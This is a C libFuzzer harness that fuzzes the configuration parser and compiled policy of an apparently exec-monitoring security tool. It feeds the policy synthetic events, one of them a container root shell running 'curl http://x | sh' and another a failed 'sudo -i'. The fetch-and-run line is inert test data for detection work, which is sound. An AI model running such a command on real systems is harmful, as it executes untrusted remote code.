// SPDX-License-Identifier: GPL-2.0-or-later
/* fuzz-config.c: libFuzzer target: the configuration parser and the compiled policy on any bytes. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "config/config.h"
#include "core/event.h"
#include "policy/policy.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char *const args_a[] = { "/bin/sh", "-c", "curl http://x | sh", "" };
static const size_t lens_a[] = { 7, 2, 18, 0 };
static const char *const args_b[] = { "sudo", "-i" };
static const size_t lens_b[] = { 4, 2 };

static struct container ctr = {
	.id = "8c63caab43c09b11429b8b0e2ddb3c406c2144d20f52684f4d58575c6a99b8cf",
	.short_id = "8c63caab43c0", .name = "web", .image = "docker.io/library/nginx:1",
	.runtime = "podman", .k8s_namespace = "default", .k8s_pod = "web-0",
};

static void fail(const char *what)
{
	fprintf(stderr, "fuzz-config: %s\n", what);
	abort();
}

/* Two events that reach most conditions: a container shell and a failed sudo. */
static void make_events(struct exec_event ev[2])
{
	static char cwd[] = "/root", file[] = "/bin/sh", exe[] = "/usr/bin/dash",
		    pexe[] = "/usr/bin/python3", cg[] = "/machine.slice/libpod-x.scope",
		    sfile[] = "/usr/bin/sudo";

	memset(ev, 0, 2 * sizeof(*ev));
	ev[0].pid = ev[0].tid = 100;
	ev[0].ppid = 1;
	strcpy(ev[0].comm, "sh");
	strcpy(ev[0].pcomm, "python3");
	strcpy(ev[0].tty, "pts/0");
	ev[0].uid = ev[0].gid = 0;
	ev[0].loginuid = 1000;
	ev[0].argc = ev[0].nargs = 4;
	ev[0].args = (const char **)args_a;
	ev[0].arglens = (size_t *)lens_a;
	ev[0].argv_str = "/bin/sh -c \"curl http://x | sh\" \"\"";
	ev[0].path[EXEC_PATH_CWD] = (struct exec_path){ .s = cwd, .len = sizeof(cwd) - 1, .truncated = false };
	ev[0].path[EXEC_PATH_FILE] = (struct exec_path){ .s = file, .len = sizeof(file) - 1, .truncated = false };
	ev[0].path[EXEC_PATH_EXE] = (struct exec_path){ .s = exe, .len = sizeof(exe) - 1, .truncated = false };
	ev[0].path[EXEC_PATH_PARENT_EXE] = (struct exec_path){ .s = pexe, .len = sizeof(pexe) - 1, .truncated = true };
	ev[0].path[EXEC_PATH_CGROUP] = (struct exec_path){ .s = cg, .len = sizeof(cg) - 1, .truncated = false };
	ev[0].upper_layer = true;
	ev[0].file_upper_known = true;
	ev[0].user = "root";
	ev[0].group = "root";
	ev[0].host_user = "uid:100000";		/* a user namespace's root */
	ev[0].host_group = "gid:100000";
	ev[0].loginuser = "alice";
	ev[0].container = &ctr;

	ev[1].pid = ev[1].tid = 200;
	strcpy(ev[1].comm, "bash");
	strcpy(ev[1].pcomm, "bash");
	ev[1].uid = ev[1].gid = 1000;
	ev[1].loginuid = 4294967295U;
	ev[1].failed = true;
	ev[1].error = EACCES;
	ev[1].argc = ev[1].nargs = 2;
	ev[1].args = (const char **)args_b;
	ev[1].arglens = (size_t *)lens_b;
	ev[1].argv_str = "sudo -i";
	ev[1].path[EXEC_PATH_FILE] = (struct exec_path){ .s = sfile, .len = sizeof(sfile) - 1, .truncated = false };
	ev[1].user = ev[1].host_user = "alice";
	ev[1].group = ev[1].host_group = "uid:1000";
	ev[1].loginuser = "uid:4294967295";
	ev[1].container_unverified = ctr.id;
}

static void on_summary(void *ctx, const struct rate_summary *s)
{
	if (!s->rule || s->window_end_usec < s->window_start_usec ||
	    (s->per == RATE_PER_CONTAINER && !s->others && !s->container))
		fail("bad rate-limit summary");
	(void)ctx;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct config_errors errs = { 0 };
	struct exec_event ev[2];
	struct config *c = NULL;
	struct verdict v;
	size_t i, n;
	int r;

	r = config_parse_buffer("fuzz.yaml", data, size, &c, &errs);
	if (r == 0 && (!c || !c->policy || errs.n))
		fail("accepted configuration without a policy, or with errors");
	if (r == -EINVAL && (c || !errs.n))
		fail("rejected configuration without an error message");
	if (r != 0 && r != -EINVAL && r != -ENOMEM)
		fail("unexpected return value");
	for (i = 0; i < errs.n; i++)
		if (!errs.msgs[i] || (strncmp(errs.msgs[i], "fuzz.yaml", 9) &&
				      strncmp(errs.msgs[i], "'fuzz.yaml'", 11)))
			fail("error message does not name the file");
	if (c) {
		make_events(ev);
		n = policy_rule_count(c->policy);
		for (i = 0; i < n; i++)
			if (!policy_rule_name(c->policy, i))
				fail("rule without a name");
		for (i = 0; i < 6; i++) {
			policy_eval(c->policy, &ev[i & 1], 1000000 * (i / 2), &v);
			if (v.priority < 0 || v.priority > 7 || (v.rule && !v.tags))
				fail("bad verdict");
		}
		policy_tick(c->policy, 90000000000ULL, on_summary, NULL);
		policy_flush(c->policy, 90000000001ULL, on_summary, NULL);
	}
	config_free(c);
	config_errors_free(&errs);
	return 0;
}
